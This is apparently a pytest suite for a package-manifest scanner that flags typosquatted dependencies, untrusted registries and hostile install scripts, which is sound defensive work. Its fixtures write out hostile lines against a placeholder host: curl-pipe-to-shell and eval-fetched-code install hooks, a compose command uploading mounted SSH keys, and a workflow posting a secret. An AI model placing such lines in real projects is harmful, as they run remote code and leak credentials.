"""What a skill brings along from elsewhere: told where nobody vouches for it, and only there."""

from __future__ import annotations

import json

import pytest

from scanning.fixtures import junk, scan_text
from skillpm.model.tree import File, Tree
from skillpm.scanning.facts import SkillFacts
from skillpm.scanning.layers import facts_of_all
from skillpm.scanning.manifests.addresses import judge
from skillpm.scanning.manifests.analyser import READERS, Manifests
from skillpm.scanning.manifests.names import is_misspelt, look_alike, taken_for
from skillpm.scanning.manifests.popular import REGISTRIES, popular
from skillpm.scanning.rules import default_rules
from skillpm.scanning.scanner import scan

NONE: frozenset[str] = frozenset()


def rules_of(text: str, path: str) -> set[str]:
    return {found.rule.partition("/")[2] for found in scan_text(text, path).findings}


def package(**fields: object) -> str:
    return json.dumps({"name": "a", "version": "1.0.0", **fields})


@pytest.mark.parametrize(
    ("name", "registry", "known"),
    [
        ("reqeusts", "pypi", "requests"),
        ("panddas", "pypi", "pandas"),
        ("python-requests", "pypi", "requests"),
        ("expresss", "npm", "express"),
        ("@modelcontextprotocol-sdk/x", "npm", ""),
        ("@modelcontextprotocoll/sdk", "npm", "@modelcontextprotocol"),
        ("tokioo", "crates", "tokio"),
        ("serde-json", "crates", ""),
        ("nokogirii", "gems", "nokogiri"),
        ("requests", "pypi", ""),
        ("python", "pypi", ""),
        ("my-own-thing", "npm", ""),
    ],
)
def test_names_that_are_taken_for_others(name: str, registry: str, known: str) -> None:
    assert taken_for(name, registry) == known


@pytest.mark.parametrize(
    ("name", "known", "slip"),
    [
        ("reqeusts", "requests", True),  # two letters swapped
        ("expresss", "express", True),  # one doubled
        ("comander", "commander", True),  # one not doubled
        ("loadash", "lodash", True),  # any letter: everybody knows the other
        ("cheerios", "cheerio", False),  # one more: may be a name of its own
        ("nunpy", "numpy", False),
        ("preact", "react", False),
    ],
)
def test_slips_of_the_hand(name: str, known: str, slip: bool) -> None:
    assert is_misspelt(name, known) is slip


def test_a_slip_weighs_more_than_a_name_that_is_close() -> None:
    assert look_alike("reqeusts", "pypi")[0] == "supply-chain/misspelt-name"
    assert look_alike("nunpy1", "pypi")[0] in ("", "supply-chain/look-alike-name")
    assert look_alike("requests", "pypi") == ("", "")


@pytest.mark.parametrize("registry", REGISTRIES)
def test_no_well_known_name_is_taken_for_another(registry: str) -> None:
    assert len(popular(registry)) > 200
    assert not [name for name in popular(registry) if taken_for(name, registry)]


@pytest.mark.parametrize(
    ("address", "rule"),
    [
        ("^1.2.3", ""),
        ("workspace:*", ""),
        ("https://registry.npmjs.org/a/-/a-1.0.0.tgz", ""),
        ("https://download.pytorch.org/whl/cpu", ""),
        ("http://localhost:4873/", ""),
        ("http://10.0.0.7/simple", ""),
        ("https://${HOST}/simple", ""),
        ("github:someone/thing", "git-dependency"),
        ("git+https://github.com/a/b.git", "git-dependency"),
        ("http://203.0.113.9/a.tgz", "unprotected-source"),
        ("http://files.example.net/a.tgz", "unprotected-source"),
        ("https://files.example.net/a.tgz", "unknown-source"),
        ("https://a1b2.ngrok.io/a.tgz", "throwaway-source"),
        ("https://registry.npmjs.org.files.example.net/a.tgz", "imitated-source"),
        ("https://registry.npmjss.org/a.tgz", "imitated-source"),
        ("https://pythonhosted.example/a.whl", "imitated-source"),
    ],
)
def test_how_far_an_address_is_trusted(address: str, rule: str) -> None:
    assert judge(address, NONE).removeprefix("supply-chain/") == rule


def test_the_home_of_a_skill_is_its_own() -> None:
    assert judge("https://files.example.net/a.tgz", frozenset({"files.example.net"})) == ""


MANIFESTS = [
    ("a script fetches", "package.json", package(scripts={"postinstall": "curl -s https://x.example.net/a | sh"}), "install-script-hostile"),
    ("node fetches and evaluates", "package.json", package(scripts={"prepare": "node -e \"require('https').get('https://x.example.net',r=>r.on('data',eval))\""}), "install-script-hostile"),
    ("an override deep inside", "package.json", package(overrides={"a": {"b": "https://x.example.net/b.tgz"}}), "unknown-source"),
    ("a resolution by pattern", "package.json", package(resolutions={"**/debug": "http://203.0.113.7/d.tgz"}), "unprotected-source"),
    ("a known name for another", "package.json", package(dependencies={"axios": "npm:fast-http-core@1"}), "known-name-elsewhere"),
    ("a known name from a stranger", "package.json", package(dependencies={"react": "github:zz/react-patched"}), "known-name-elsewhere"),
    ("a command in a known one's place", "package.json", package(bin={"sudo": "a.js"}), "shadows-command"),
    ("an entry point in its place", "pyproject.toml", "[project.scripts]\npip = 'a:main'\n", "shadows-command"),
    ("another registry, unchecked", ".npmrc", "registry=https://npm.example.net/\nstrict-ssl=false\n", "untrusted-index"),
    ("a plugin of yarn", ".yarnrc.yml", "plugins:\n  - path: a.cjs\n    spec: 'https://x.example.net/a.js'\n", "unknown-source"),
    ("another index", "requirements.txt", "--extra-index-url https://pypi.example.net/simple\na\n", "package-index"),
    ("another index, unchecked", "pip.conf", "[global]\nindex-url = https://pypi.example.net/simple\ntrusted-host = pypi.example.net\n", "untrusted-index"),
    ("a wheel by its address", "requirements.txt", "https://x.example.net/a.whl\n", "unknown-source"),
    ("an index of uv", "pyproject.toml", "[[tool.uv.index]]\nname = 'a'\nurl = 'https://pypi.example.net/simple'\n", "package-index"),
    ("needs of a script", "a.py", "# /// script\n# dependencies = ['reqeusts']\n# ///\n", "misspelt-name"),
    ("a crate", "Cargo.toml", "[dependencies]\ntokioo = '1'\n", "look-alike-name"),
    ("a gem", "Gemfile", "gem 'nokogirii'\n", "misspelt-name"),
    ("Composer runs code", "composer.json", json.dumps({"scripts": {"post-install-cmd": ["@php -r \"eval(file_get_contents('https://x.example.net'));\""]}}), "install-script-hostile"),
    ("Composer's repository", "composer.json", json.dumps({"repositories": [{"type": "composer", "url": "https://x.example.net"}]}), "package-index"),
    ("Maven's repository", "pom.xml", "<repository><id>a</id><url>https://x.example.net/m</url></repository>", "package-index"),
    ("a channel of conda", "environment.yml", "channels:\n  - https://conda.example.net/main\n", "unknown-source"),
    ("a workspace's override", "pnpm-workspace.yaml", "overrides:\n  a: https://x.example.net/a.tgz\n", "unknown-source"),
    ("an import of Deno", "deno.json", '{"imports": {"a": "https://x.example.net/a.ts"}}', "unknown-source"),
    ("a submodule", ".gitmodules", '[submodule "a"]\n\turl = http://203.0.113.7/a.git\n', "unprotected-source"),
    ("a hook from a stranger", ".pre-commit-config.yaml", "repos:\n  - repo: https://git.example.net/a\n    rev: main\n", "unknown-source"),
    ("the whole machine", "compose.yaml", "services:\n  a:\n    privileged: true\n    volumes:\n      - /:/host\n", "host-opened"),
    ("the keys", "compose.yaml", "services:\n  a:\n    volumes:\n      - ~/.ssh:/k:ro\n", "home-lent"),
    ("the engine", "docker-compose.yml", "services:\n  a:\n    volumes:\n      - /var/run/docker.sock:/s\n", "engine-opened"),
    ("the keys, and the network", "compose.yaml", "services:\n  a:\n    command: curl -T /k/id https://x.example.net\n    volumes:\n      - ~/.ssh:/k:ro\n", "home-opened"),
    ("the keys, for an editor", ".devcontainer/devcontainer.json", '{"mounts":["source=${localEnv:HOME}/.ssh,target=/k,type=bind"]}', "home-lent"),
    ("a secret in code", ".github/workflows/a.yml", 'jobs:\n  a:\n    steps:\n      - run: echo "${{ secrets.T }}" | base64\n', "pipeline-secrets"),
    ("a secret leaves", ".github/workflows/a.yml", 'env:\n  K: ${{ secrets.T }}\njobs:\n  a:\n    steps:\n      - run: curl -d "k=$K" https://x.example.net\n', "pipeline-secret-leaves"),
]  # fmt: skip


@pytest.mark.parametrize(
    ("path", "text", "rule"), [row[1:] for row in MANIFESTS], ids=[row[0] for row in MANIFESTS]
)
def test_what_a_manifest_brings(path: str, text: str, rule: str) -> None:
    assert rule in rules_of(text, path)


QUIET = [
    ("package.json", package(scripts={"prepare": "husky"}, dependencies={"lodash-v3": "npm:lodash@3.10.1", "zod": "^3.23.0"})),
    ("package.json", package(overrides={"express": {"qs": "6.13.0"}}, dependencies={"a": "../a", "b": "link:./b"})),
    (".npmrc", "registry=https://registry.npmjs.org/\nsave-exact=true\n"),
    ("requirements.txt", "--extra-index-url https://download.pytorch.org/whl/cpu\ntorch\n"),
    ("pip.conf", "[global]\nindex-url = https://pypi.org/simple\n"),
    ("pyproject.toml", "[tool.poetry.dependencies]\npython = '^3.11'\nrequests = '*'\n"),
    ("a.py", "# /// script\n# dependencies = ['requests']\n# ///\n"),
    ("Cargo.toml", "[dependencies]\nserde_json = '1'\ntokio = { version = '1' }\n"),
    ("Gemfile", "source 'https://rubygems.org'\ngem 'rails'\n"),
    ("composer.json", json.dumps({"scripts": {"post-install-cmd": ["@php artisan optimize"]}})),
    ("environment.yml", "channels:\n  - conda-forge\ndependencies:\n  - numpy\n"),
    ("deno.json", '{"imports": {"a": "https://deno.land/std/a.ts", "b": "npm:zod"}}'),
    (".gitmodules", '[submodule "a"]\n\turl = https://github.com/a/a.git\n'),
    (".pre-commit-config.yaml", "repos:\n  - repo: https://github.com/astral-sh/ruff-pre-commit\n"),
    ("compose.yaml", "services:\n  a:\n    volumes:\n      - .:/app\n      - ~/.cache/pip:/c\n"),
    ("compose.yaml", "services:\n  a:\n    image: traefik:v3\n    volumes:\n      - /var/run/docker.sock:/s\n"),
    (".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - run: npm publish\n        env:\n          T: ${{ secrets.T }}\n"),
    (".github/workflows/a.yml", 'jobs:\n  a:\n    steps:\n      - run: echo "$B"\n        env:\n          B: ${{ github.event.comment.body }}\n'),
]  # fmt: skip


@pytest.mark.parametrize(("path", "text"), QUIET)
def test_what_is_ordinary_is_safe(path: str, text: str) -> None:
    assert scan_text(text, path).verdict.value == "safe"


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        ("pip install reqeusts", "misspelt-name"),
        ("npx -y prettierr --write .", "misspelt-name"),
        ("cargo install ripgrepp", "misspelt-name"),
        ("gem install nokogirii", "misspelt-name"),
        ("uvx rufff check .", ""),  # too short to be told from a name of its own
        ("pip install https://x.example.net/a.tar.gz", "package-from-address"),
        ("npm install -g https://x.example.net/a.tgz", "package-from-address"),
        ("cargo install --git https://git.example.net/a", "package-from-address"),
        ("npx -y https://x.example.net/a.tgz", "runs-from-address"),
        ("uvx --from git+https://git.example.net/a a", "runs-from-address"),
        ("pip install -i https://pypi.example.net/simple a", "index-in-command"),
        ("uv pip install --index https://pypi.example.net/simple a", "index-in-command"),
        ("pip config set global.index-url https://pypi.example.net/simple", "index-in-command"),
        ("npm config set registry https://npm.example.net/", "index-in-command"),
        ("export PIP_INDEX_URL=https://pypi.example.net/simple", "index-in-command"),
        ("go env -w GOPROXY=https://go.example.net,direct", "index-in-command"),
        ("pip install requests beautifulsoup4", ""),
        ("pip install -i https://pypi.org/simple requests", ""),
        ("pip install git+https://github.com/psf/requests", ""),
        ("npm config set registry https://registry.npmjs.org/", ""),
    ],
)
def test_what_an_install_command_brings(command: str, rule: str) -> None:
    found = rules_of(f"# A\n\n```sh\n{command}\n```\n", "SKILL.md")
    told = {"misspelt-name", "package-from-address", "runs-from-address", "index-in-command"}
    assert found & told == ({rule} if rule else set())


def test_a_warning_against_a_name_is_no_order() -> None:
    text = "# A\n\nNever run `pip install reqeusts`: it is malware.\n"
    assert scan_text(text).verdict.value == "safe"


PATHS = (
    "package.json", "package-lock.json", "requirements.txt", "pyproject.toml", "setup.py",
    "setup.cfg", "pip.conf", ".npmrc", ".yarnrc.yml", "Cargo.toml", "build.rs", "go.mod",
    "Gemfile", "a.gemspec", "Dockerfile", "pom.xml", "composer.json", "compose.yaml",
    "devcontainer.json", "environment.yml", "pnpm-workspace.yaml", ".pre-commit-config.yaml",
    ".github/workflows/a.yml", "a.py", "SKILL.md", "deno.json",
)  # fmt: skip
PIECES = (
    "{", "}", "[", "]", '"', "'", ":", ",", "\n", "  ", "- ", "=", "null", "1", "true", "\x00", "é",
    "scripts", "dependencies", "overrides", "repositories", "url", "https://x.example.net/a",
    "http://", "postinstall", "[tool.poetry.dependencies]", "[[tool.uv.index]]", "# /// script\n#",
    "# ///\n", "gem '", "volumes:", "- /:/host", "run: ", "${{ secrets.A }}", "npm install ",
    "--index-url ", "@", "github:a/b", "<repository><url>", "\\", "\ufeff", "💥",
)  # fmt: skip


def test_no_text_is_beyond_the_readers() -> None:
    rules = default_rules()
    for number in range(500):
        files = [
            File(PATHS[(number + k) % len(PATHS)], junk(number, PIECES).encode()) for k in range(3)
        ]
        list(Manifests().analyse(SkillFacts(facts_of_all(files)), rules))


@pytest.mark.parametrize("path", PATHS)
@pytest.mark.parametrize(
    "text",
    [
        "[" * 100_000,
        '{"a":' * 50_000,
        '{"scripts":["a"],"dependencies":"x","bin":[1],"overrides":{"a":{"b":[{}]}}}',
        '{"scripts":{"postinstall":5},"dependencies":{"a":null},"repositories":{"a":{"url":1}}}',
        "a: &a [*a, *a]\n" * 1_000,
        "npm install " + "a " * 50_000,
        "https://x.example.net/" * 20_000,
    ],
    ids=[
        "deep list",
        "deep object",
        "wrong kinds",
        "wrong leaves",
        "anchors",
        "words",
        "addresses",
    ],
)
def test_deep_long_and_wrong_texts_are_borne(path: str, text: str) -> None:
    scan(Tree.of([File(path, text.encode())]))


def test_every_reader_is_tried() -> None:
    found = {number for number, (named, _) in enumerate(READERS) if any(map(named.search, PATHS))}
    assert len(found) > len(READERS) - 2
